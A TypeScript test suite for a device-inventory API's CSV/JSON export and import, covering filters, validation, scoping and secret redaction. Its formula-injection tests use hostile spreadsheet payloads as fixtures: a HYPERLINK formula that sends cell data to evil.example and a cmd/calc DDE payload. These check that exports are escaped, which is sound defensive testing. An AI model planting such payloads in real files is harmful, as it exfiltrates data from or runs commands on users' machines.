import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { count } from "drizzle-orm";
import { createTestContext, manualClock, type TestContext } from "../../../test/helpers/app.ts";
import { activityLog, categories, devices } from "../../db/schema/index.ts";
import { nameKey } from "../../db/name-key.ts";

type Device = Record<string, any>;
const EXPORT_COLUMNS = [
  "id",
  "device_name",
  "device_ip",
  "device_vendor",
  "device_vendor_id",
  "device_model",
  "device_category_id",
  "device_template_id",
  "device_cred_id",
  "device_snippet_cred_id",
  "device_port_override",
  "device_profile_id",
  "zone_id",
  "device_tags",
  "device_username",
  "has_password",
  "has_enable_password",
] as const;
const AFTER_CUSTOM = [
  "notes",
  "enabled",
  "status",
  "device_discover_credentials",
  "device_serial",
  "device_os_version",
  "device_hostname",
  "inventory_at",
  "last_seen_at",
  "last_backup_at",
  "created_at",
  "updated_at",
];

const device = (name: string, extra: Record<string, unknown> = {}) => ({
  device_name: name,
  device_ip: "192.0.2.10",
  device_vendor: "Cisco",
  ...extra,
});
const csvRecords = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

function api(t: TestContext, token: string) {
  return {
    bulk: async (list: unknown[]) => {
      const res = await t.call("/api/v1/devices/bulk", { method: "POST", token, body: { devices: list } });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      return res.body.data as Device[];
    },
    export: async (query = "") => {
      const res = await t.request(`/api/v1/devices/export${query ? `?${query}` : ""}`, { token });
      return { status: res.status, headers: res.headers, text: await res.text() };
    },
    list: async (query = "") =>
      (await t.call(`/api/v1/devices?per_page=500${query ? `&${query}` : ""}`, { token })).body,
    upload: (csv: string, opts: { dryRun?: boolean; type?: string } = {}) =>
      t.call(`/api/v1/devices/import${opts.dryRun ? "?dry_run=true" : ""}`, {
        method: "POST",
        token,
        rawBody: csv,
        headers: { "content-type": opts.type ?? "text/csv" },
      }),
  };
}

describe("export", () => {
  let t: TestContext;
  let admin: ReturnType<typeof api>;
  beforeAll(async () => {
    t = await createTestContext({ clock: manualClock(new Date("2026-03-09T10:00:00Z")) });
    admin = api(t, await t.token());
    await admin.bulk([
      device("ams-core-rtr01", {
        device_vendor: "Cisco",
        device_model: "ASR1001-X",
        device_tags: ["core", "ams"],
        custom: { site: "ams", rack: 12 },
        device_password: "hunter2-secret",
        device_username: "backup",
        notes: 'row 3, "left"',
      }),
      device("ams-edge-fw01", {
        device_ip: "2001:db8::1",
        device_vendor: "Fortinet",
        device_tags: ["edge"],
        custom: { site: "ams" },
        enabled: false,
      }),
      device("fra-core-rtr01", {
        device_vendor: "Juniper",
        device_model: "MX204",
        device_tags: ["core"],
        custom: { owner: "noc" },
        device_enable_password: "en-secret-9",
      }),
      device("fra-access-sw01", { device_ip: "sw01.fra.example.net", device_vendor: "Arista", notes: "two\nlines" }),
    ]);
  });
  afterAll(() => t.close());

  it("downloads every device as CSV: the device fields, tags joined with |, one custom.<key> column per attribute, no secrets", async () => {
    const res = await admin.export();
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="devices-2026-03-09.csv"');
    const header = res.text.split("\r\n")[0]!.split(",");
    expect(header).toEqual([...EXPORT_COLUMNS, "custom.owner", "custom.rack", "custom.site", ...AFTER_CUSTOM]);
    expect(res.text).not.toMatch(/hunter2-secret|en-secret-9|password_enc/);

    const rows = csvRecords(res.text);
    const listed = (await admin.list()).data as Device[];
    expect(rows.map((r) => r.device_name)).toEqual([
      "ams-core-rtr01",
      "ams-edge-fw01",
      "fra-core-rtr01",
      "fra-access-sw01",
    ]);
    expect(rows[0]).toMatchObject({
      id: String(listed[0]!.id),
      device_vendor: "Cisco",
      device_model: "ASR1001-X",
      device_tags: "ams|core",
      device_username: "backup",
      has_password: "true",
      has_enable_password: "false",
      "custom.site": "ams",
      "custom.rack": "12",
      "custom.owner": "",
      notes: 'row 3, "left"',
      enabled: "true",
      device_category_id: "",
      device_cred_id: "0",
      status: "unknown",
      last_seen_at: "",
      created_at: listed[0]!.created_at,
    });
    expect(rows[1]).toMatchObject({
      device_ip: "2001:db8::1",
      enabled: "false",
      "custom.site": "ams",
      "custom.rack": "",
    });
    expect(rows[2]).toMatchObject({ has_enable_password: "true", "custom.owner": "noc" });
    expect(rows[3]).toMatchObject({ device_ip: "sw01.fra.example.net", notes: "two\nlines", device_tags: "" });
  });

  it("downloads JSON: an array of the same records GET /devices gives", async () => {
    const res = await admin.export("format=json");
    expect(res.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="devices-2026-03-09.json"');
    // The list also carries rConfig's relations (docs/rconfig.md); the export is netkeep's record alone.
    const listed = (await admin.list()).data.map(
      ({ vendor: _v, category: _c, tag: _t, template: _tp, last_config: _l, ...record }: Record<string, unknown>) =>
        record,
    );
    expect(JSON.parse(res.text)).toEqual(listed);
    expect(res.text).not.toMatch(/hunter2-secret|en-secret-9/);
  });

  it("honours the list's filters, search, sort and fields", async () => {
    const names = (text: string) => csvRecords(text).map((r) => r.device_name);
    expect(names((await admin.export("filter[device_tags]=core&sort=-device_name")).text)).toEqual([
      "fra-core-rtr01",
      "ams-core-rtr01",
    ]);
    expect(names((await admin.export("search=ams")).text)).toEqual(["ams-core-rtr01", "ams-edge-fw01"]);
    expect(names((await admin.export("filter[custom.site]=ams&filter[enabled]=true")).text)).toEqual([
      "ams-core-rtr01",
    ]);
    expect(names((await admin.export("filter[device_vendor]=Juniper,Arista&sort=device_name")).text)).toEqual([
      "fra-access-sw01",
      "fra-core-rtr01",
    ]);

    const trimmed = await admin.export(
      "fields=device_name,device_ip&sort=device_ip&filter[device_vendor]=Cisco,Arista",
    );
    expect(trimmed.text).toBe(
      "device_name,device_ip\r\nams-core-rtr01,192.0.2.10\r\nfra-access-sw01,sw01.fra.example.net\r\n",
    );
    const json = JSON.parse(
      (await admin.export("format=json&fields=device_name,custom&filter[device_name]=FRA-CORE-RTR01")).text,
    );
    expect(json).toEqual([{ device_name: "fra-core-rtr01", custom: { owner: "noc" } }]);

    const none = await admin.export("filter[device_name]=nothing-here");
    expect(none.text).toBe(`${[...EXPORT_COLUMNS, ...AFTER_CUSTOM].join(",")}\r\n`);
    expect(JSON.parse((await admin.export("format=json&filter[device_name]=nothing-here")).text)).toEqual([]);
  });

  it("refuses an unknown filter, sort, field or format with 422, as the list does", async () => {
    for (const [query, field] of [
      ["filter[colour]=red", "filter[colour]"],
      ["sort=colour", "sort"],
      ["fields=colour", "fields"],
      ["format=xml", "format"],
    ] as const) {
      const res = await admin.export(query);
      expect(res.status, query).toBe(422);
      expect(Object.keys(JSON.parse(res.text).errors)).toEqual([field]);
    }
  });

  it("pages through a large inventory: 1,234 devices come out once each, in order", async () => {
    const big = await createTestContext();
    try {
      const now = new Date();
      const names = Array.from({ length: 1234 }, (_, i) => `bulk-sw-${String(i).padStart(5, "0")}`);
      for (let i = 0; i < names.length; i += 200) {
        await big.db
          .insert(devices)
          .values(
            names
              .slice(i, i + 200)
              .map((name) => ({ name, nameKey: nameKey(name), ip: "198.51.100.7", createdAt: now, updatedAt: now })),
          );
      }
      const client = api(big, await big.token());
      const csv = csvRecords((await client.export("sort=-device_name")).text).map((r) => r.device_name);
      expect(csv).toEqual([...names].reverse());
      const json = JSON.parse((await client.export("format=json")).text) as Device[];
      expect(json.map((d) => d.device_name)).toEqual(names);
    } finally {
      await big.close();
    }
  });

  it("exports only the devices in the caller's scope", async () => {
    await t.role({ name: "ams-team", tags: ["ams"] });
    const scoped = api(t, await t.token(["devices.read"], { role: "ams-team" }));
    expect(csvRecords((await scoped.export()).text).map((r) => r.device_name)).toEqual(["ams-core-rtr01"]);
    expect(JSON.parse((await scoped.export("format=json&search=fra")).text)).toEqual([]);
  });
});

describe("formula injection (OWASP CSV injection)", () => {
  let t: TestContext;
  let admin: ReturnType<typeof api>;
  // Every character a spreadsheet starts a formula with, in the fields a client writes freely.
  const hostile = [
    device('=HYPERLINK("http://evil.example/?x="&A1,"click")', {
      device_vendor: "Cisco",
      notes: "-",
      custom: { floor: -1, owner: "@SUM(1+1)" },
    }),
    device("+cmd|'/C_calc'!A0", { device_vendor: "Cisco", notes: "\tindented", device_model: "-2+3" }),
    device("'=already-quoted", { device_vendor: "Cisco", notes: "'@note", custom: { owner: "''+two-quotes" } }),
    device("plain-name-01", { device_vendor: "Cisco", notes: "a=b, c-d and 'e'", device_model: "'not-a-formula" }),
  ];
  beforeAll(async () => {
    t = await createTestContext();
    admin = api(t, await t.token());
    await admin.bulk(hostile);
  });
  afterAll(() => t.close());

  it("exports a cell starting with =, +, -, @ or tab with a leading single quote, quoted, so it opens as text", async () => {
    const res = await admin.export("sort=id&fields=device_name,device_model,custom,notes");
    expect(res.status).toBe(200);
    expect(res.text.split("\r\n")[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",,"'-1","'@SUM(1+1)","'-"`,
    );
    const records = csvRecords(res.text);
    expect(records.map((r) => [r.device_name, r.device_model, r["custom.floor"], r["custom.owner"], r.notes])).toEqual([
      [`'${hostile[0]!.device_name}`, "", "'-1", "'@SUM(1+1)", "'-"],
      ["'+cmd|'/C_calc'!A0", "'-2+3", "", "", "'\tindented"],
      // a value that already starts with quotes before a formula character gets one more, so the import can undo exactly one
      ["''=already-quoted", "", "", "'''+two-quotes", "''@note"],
      // nothing else changes: a quote or a formula character later in the cell is not at its start
      ["plain-name-01", "'not-a-formula", "", "", "a=b, c-d and 'e'"],
    ]);
  });

  it("imports its own export back without changing a name, a note or an attribute", async () => {
    const before = (await admin.list("sort=id")).data as Device[];
    const exported = await admin.export("sort=id");
    const res = await admin.upload(exported.text);
    expect(res.body.data).toMatchObject({ created: 0, updated: hostile.length, rejected: 0 });
    expect(res.body.data.rows.map((r: { device_name: string }) => r.device_name)).toEqual(
      hostile.map((d) => d.device_name),
    );
    const after = (await admin.list("sort=id")).data as Device[];
    const stable = (d: Device) => ({ ...d, updated_at: undefined });
    expect(after.map(stable)).toEqual(before.map(stable));
    expect(after.map((d) => d.device_name)).toEqual(hostile.map((d) => d.device_name));
  });

  it("reads a leading quote before a formula character in an uploaded file as that escape", async () => {
    const res = await admin.upload(
      "device_name,device_ip,device_vendor,notes\r\n\"'=new-one-01\",192.0.2.20,Cisco,'-\r\n",
    );
    expect(res.body.data).toMatchObject({
      created: 1,
      rejected: 0,
      rows: [{ device_name: "=new-one-01", action: "create" }],
    });
    const created = (await admin.list("search=new-one-01")).data as Device[];
    expect(created.map((d) => [d.device_name, d.notes])).toEqual([["=new-one-01", "-"]]);
  });
});

describe("import", () => {
  let t: TestContext;
  let admin: ReturnType<typeof api>;
  let categoryId: number;
  beforeAll(async () => {
    t = await createTestContext();
    admin = api(t, await t.token());
    const [cat] = await t.db.select().from(categories);
    categoryId = cat!.id;
  });
  afterAll(() => t.close());

  const activityCount = async () => (await t.db.select({ n: count() }).from(activityLog))[0]!.n;

  it("creates new names, updates known ones, rejects bad rows with the reason, row by row; a dry run reports the same and changes nothing", async () => {
    await admin.bulk([
      device("lon-core-rtr01", {
        device_vendor: "Cisco",
        device_model: "ASR920",
        device_tags: ["core"],
        notes: "keep me",
        custom: { site: "lon", rack: 4 },
      }),
      device("lon-dist-sw01", { device_vendor: "Arista", device_password: "old-secret" }),
    ]);
    const file = [
      "device_name,device_ip,device_vendor,device_model,device_tags,custom.site,enabled,device_password,device_category_id",
      `lon-access-sw01,10.20.0.11,Arista,7050SX,access|lon,lon,true,Sw1tch-pass,${categoryId}`,
      "LON-CORE-RTR01,10.20.0.1,Cisco,ASR1002-X,core|lon,lon,,,",
      "lon-access-sw02,10.20.0.300,Arista,7050SX,access,lon,true,,",
      "",
      "lon-access-sw03,10.20.0.13,Brocade,ICX7150,access,lon,maybe,,abc",
      "sw04,10.20.0.14,Arista,,access,lon,,,",
      "lon-access-sw01,10.20.0.15,Arista,,access,lon,,,",
      "lon-dist-sw01,10.20.0.2,,,,,false,,",
      '"lon-wan-rtr01",10.20.0.3,Juniper,"MX204, spare",,lon,yes,,',
      "lon-extra-col,10.20.0.4,Cisco,,,,,,,extra",
    ].join("\n");

    const before = { devices: (await admin.list()).meta.total, activity: await activityCount() };
    const dry = await admin.upload(file, { dryRun: true });
    expect(dry.status).toBe(200);
    expect((await admin.list()).meta.total).toBe(before.devices);
    expect(await activityCount()).toBe(before.activity);

    const real = await admin.upload(file);
    expect(real.status).toBe(200);
    expect(real.body).toEqual(dry.body);
    expect(real.body.data).toEqual({
      created: 2,
      updated: 2,
      rejected: 5,
      rows: [
        { row: 2, device_name: "lon-access-sw01", action: "create" },
        { row: 3, device_name: "LON-CORE-RTR01", action: "update" },
        {
          row: 4,
          device_name: "lon-access-sw02",
          action: "reject",
          errors: { device_ip: ["device_ip must be an IPv4 address, an IPv6 address or a hostname"] },
        },
        {
          row: 6,
          device_name: "lon-access-sw03",
          action: "reject",
          errors: {
            enabled: ["enabled must be true or false"],
            device_category_id: ["device_category_id must be a whole number"],
          },
        },
        {
          row: 7,
          device_name: "sw04",
          action: "reject",
          errors: { device_name: ["device_name must be at least 5 characters"] },
        },
        {
          row: 8,
          device_name: "lon-access-sw01",
          action: "reject",
          errors: { device_name: ["device_name 'lon-access-sw01' repeats row 2 of this file"] },
        },
        { row: 9, device_name: "lon-dist-sw01", action: "update" },
        { row: 10, device_name: "lon-wan-rtr01", action: "create" },
        {
          row: 11,
          device_name: "lon-extra-col",
          action: "reject",
          errors: { row: ["row has 10 fields; the header has 9"] },
        },
      ],
    });

    const byName = new Map(((await admin.list("search=lon")).data as Device[]).map((d) => [d.device_name, d]));
    expect([...byName.keys()].sort()).toEqual(["lon-access-sw01", "lon-core-rtr01", "lon-dist-sw01", "lon-wan-rtr01"]);
    expect(byName.get("lon-access-sw01")).toMatchObject({
      device_ip: "10.20.0.11",
      device_vendor: "Arista",
      device_model: "7050SX",
      device_tags: ["access", "lon"],
      custom: { site: "lon" },
      enabled: true,
      has_password: true,
      device_category_id: categoryId,
    });
    // The update changed what the file has; the name keeps its stored spelling, the rack attribute and the notes stay.
    expect(byName.get("lon-core-rtr01")).toMatchObject({
      device_ip: "10.20.0.1",
      device_model: "ASR1002-X",
      device_tags: ["core", "lon"],
      custom: { site: "lon", rack: 4 },
      notes: "keep me",
      device_category_id: null,
    });
    // Blank cells clear vendor, model and tags; a blank password keeps the stored one.
    expect(byName.get("lon-dist-sw01")).toMatchObject({
      device_vendor: "Arista",
      device_model: "",
      device_tags: [],
      enabled: false,
      has_password: true,
    });
    expect(byName.get("lon-wan-rtr01")).toMatchObject({
      device_vendor: "Juniper",
      device_model: "MX204, spare",
      enabled: true,
      device_tags: [],
    });
    expect(JSON.stringify(real.body)).not.toContain("Sw1tch-pass");
    const logged = await t.db.select().from(activityLog);
    expect(JSON.stringify(logged)).not.toContain("Sw1tch-pass");
    expect(logged.filter((a) => a.action === "device.create").length).toBeGreaterThanOrEqual(2);
  });

  it("rejects rows the device write refuses (unknown vendor, taken name) without losing the good rows", async () => {
    const file = [
      "device_name,device_ip,device_vendor",
      "par-core-rtr01,10.30.0.1,Cisco",
      "par-core-rtr02,10.30.0.2,Acme Networks",
      "par-core-rtr03,10.30.0.3,Juniper",
    ].join("\r\n");
    const res = await admin.upload(file);
    expect(res.body.data.rows).toEqual([
      { row: 2, device_name: "par-core-rtr01", action: "create" },
      {
        row: 3,
        device_name: "par-core-rtr02",
        action: "reject",
        errors: {
          device_vendor: [
            expect.stringMatching(/^device_vendor 'Acme Networks' is not a known vendor; use one of: .*Cisco/),
          ],
        },
      },
      { row: 4, device_name: "par-core-rtr03", action: "create" },
    ]);
    expect(((await admin.list("filter[device_name]=par-core-rtr01,par-core-rtr03")).data as Device[]).length).toBe(2);
  });

  it("numbers rows by the line they start on, across blank lines, quoted line breaks and a missing final newline", async () => {
    const file =
      'device_name,device_ip,notes\n\nmad-core-rtr01,10.40.0.1,"line one\nline two\nline three"\n,,\nmad-core-rtr02,10.40.0.2,plain\n\nmad-core-rtr03,10.40.0.3,last';
    const res = await admin.upload(file, { dryRun: true });
    expect(res.body.data.rows.map((r: { row: number }) => r.row)).toEqual([3, 7, 9]);
  });

  it("imports an exported file back unchanged: every row an update, every device as it was", async () => {
    const before = (await admin.list()).data as Device[];
    const exported = await admin.export();
    const res = await admin.upload(exported.text);
    expect(res.body.data).toMatchObject({ created: 0, updated: before.length, rejected: 0 });
    const after = (await admin.list()).data as Device[];
    const stable = (d: Device) => ({ ...d, updated_at: undefined });
    expect(after.map(stable)).toEqual(before.map(stable));
  });

  it("takes a multipart form with a file field as well as a text/csv body", async () => {
    const form = new FormData();
    form.append(
      "file",
      new Blob(["device_name,device_ip,device_vendor\nber-core-rtr01,10.50.0.1,Cisco\n"], { type: "text/csv" }),
      "devices.csv",
    );
    const token = await t.token(["devices.write"]);
    const sent = await t.app.request("/api/v1/devices/import", {
      method: "POST",
      headers: { apitoken: token },
      body: form,
    });
    expect(sent.status).toBe(200);
    expect((await sent.json()).data).toEqual({
      created: 1,
      updated: 0,
      rejected: 0,
      rows: [{ row: 2, device_name: "ber-core-rtr01", action: "create" }],
    });
  });

  it("rejects a new row without a vendor, and keeps a known device's vendor when its cell is blank", async () => {
    await admin.bulk([device("vie-core-rtr01", { device_vendor: "Juniper" })]);
    const res = await admin.upload(
      ["device_name,device_ip,device_vendor", "vie-core-rtr01,10.70.0.1,", "vie-core-rtr02,10.70.0.2,"].join("\n"),
    );
    expect(res.status).toBe(200);
    expect(res.body.data.rows).toEqual([
      { row: 2, device_name: "vie-core-rtr01", action: "update" },
      {
        row: 3,
        device_name: "vie-core-rtr02",
        action: "reject",
        errors: { device_vendor: [expect.stringMatching(/^device_vendor is required/)] },
      },
    ]);
    const [kept] = (await admin.list("filter[device_name]=vie-core-rtr01")).data as Device[];
    expect(kept).toMatchObject({ device_ip: "10.70.0.1", device_vendor: "Juniper" });
  });

  it("refuses what is not a CSV file it can read, naming the problem", async () => {
    const expect422 = async (body: string, field: string, pattern: RegExp) => {
      const res = await admin.upload(body);
      expect(res.status, body).toBe(422);
      expect(res.body.errors[field][0]).toMatch(pattern);
    };
    await expect422("", "file", /^file is empty/);
    await expect422(
      "device_name,colour\nx,y\n",
      "header",
      /column 'colour' is not a device field; use any of: device_name, device_ip/,
    );
    await expect422("device_ip,device_vendor\n10.0.0.1,Cisco\n", "header", /no device_name column/);
    await expect422("device_name,device_name\nabcde,abcde\n", "header", /appears twice/);
    await expect422("device_name,custom.bad key\nabcde,x\n", "header", /custom attribute names/);
    await expect422('device_name,device_ip\n"abcde,10.0.0.1\n', "file", /^file is not valid CSV/);
    const wrongType = await admin.upload("device_name\nabcde\n", { type: "application/json" });
    expect(wrongType.status).toBe(415);
    expect(wrongType.body.message).toMatch(/text\/csv/);
  });

  it("refuses a file that is not UTF-8", async () => {
    const token = await t.token(["devices.write"]);
    const bytes = new Uint8Array([
      ...new TextEncoder().encode("device_name,notes\nzrh-core-rtr01,Z"),
      0xfc,
      0x72,
      0x69,
      0x63,
      0x68,
      0x0a,
    ]);
    const res = await t.app.request("/api/v1/devices/import", {
      method: "POST",
      headers: { apitoken: token, "content-type": "text/csv" },
      body: bytes,
    });
    expect(res.status).toBe(422);
    expect((await res.json()).errors.file[0]).toMatch(/not UTF-8/);
  });

  it("answers 413 for a file over 5 MB or over 10,000 rows", async () => {
    const big = "device_name,notes\n" + `big-device-01,${"x".repeat(5 * 1024 * 1024)}\n`;
    const tooBig = await admin.upload(big);
    expect(tooBig.status).toBe(413);
    expect(tooBig.body.message).toMatch(/larger than 5 MB/);
    const many = "device_name\n" + Array.from({ length: 10_001 }, (_, i) => `row-device-${i}`).join("\n");
    const tooMany = await admin.upload(many);
    expect(tooMany.status).toBe(413);
    expect(tooMany.body.message).toMatch(/10001 device rows; an import takes at most 10000/);
  });

  it("keeps a scoped writer inside their scope: no device created outside it, none outside it updated", async () => {
    await admin.bulk([device("scope-out-rtr01", { device_tags: ["edge"] })]);
    await t.role({ name: "core-writers", tags: ["core"] });
    const scoped = api(t, await t.token(["devices.read", "devices.write"], { role: "core-writers" }));
    const res = await scoped.upload(
      [
        "device_name,device_ip,device_vendor,device_tags",
        "scope-in-rtr01,10.60.0.1,Cisco,core",
        "scope-new-rtr02,10.60.0.2,Cisco,edge",
        "scope-out-rtr01,10.60.0.3,Cisco,core",
      ].join("\n"),
    );
    expect(res.body.data.rows).toEqual([
      { row: 2, device_name: "scope-in-rtr01", action: "create" },
      {
        row: 3,
        device_name: "scope-new-rtr02",
        action: "reject",
        errors: { device_tags: [expect.stringMatching(/outside your scope/)] },
      },
      {
        row: 4,
        device_name: "scope-out-rtr01",
        action: "reject",
        errors: { device_name: ["device_name 'scope-out-rtr01' is already taken"] },
      },
    ]);
    const outside = ((await admin.list("filter[device_name]=scope-out-rtr01")).data as Device[])[0]!;
    expect(outside).toMatchObject({ device_ip: "192.0.2.10", device_tags: ["edge"] });
  });

  it("needs devices.write to import and devices.read to export", async () => {
    const reader = api(t, await t.token(["devices.read"]));
    expect((await reader.upload("device_name\nabcde\n")).status).toBe(403);
    const writer = api(t, await t.token(["devices.write"]));
    expect((await writer.export()).status).toBe(403);
  });
});
